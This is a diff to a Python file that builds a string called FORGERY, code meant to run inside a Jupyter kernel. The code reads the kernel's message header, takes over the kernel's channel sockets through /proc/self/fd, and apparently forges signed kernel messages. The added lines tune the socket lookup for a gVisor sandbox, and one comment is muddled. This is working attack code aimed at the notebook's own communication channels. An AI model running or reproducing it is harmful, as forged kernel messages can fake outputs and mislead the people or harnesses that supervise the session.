@@ -10,6 +10,7 @@ FORGED = "f0rged"
 FORGERY = """
 import hmac, json, os, socket, stat, struct, sys, threading, time
 
+GVISOR = "4.4.0"  # which calls a connection from the host after the other end
 NUMBERS_OF = {"shell": 1, "iopub": 2, "stdin": 3, "control": 4}
 kernel = get_ipython().kernel
 own = dict(kernel.get_parent("shell")["header"])
@@ -17,12 +18,13 @@ own["date"] = str(own["date"])
 earlier, last_of_all = globals().get("last_of_all", "0" * 32), own["msg_id"]
 
 def connection(channel):
-    for name in os.listdir("/proc/self/fd"):
+    for name in sorted(os.listdir("/proc/self/fd"), key=int):
         try:
             if not stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                 continue
             one = socket.socket(fileno=os.dup(int(name)))
-            if str(one.getsockname()).endswith(f"-{NUMBERS_OF[channel]}") and one.getpeername() is not None:
+            ends = one.getpeername(), one.getsockname()
+            if str(ends[os.uname().release != GVISOR]).endswith(f"-{NUMBERS_OF[channel]}"):
                 return one
         except OSError:
             pass
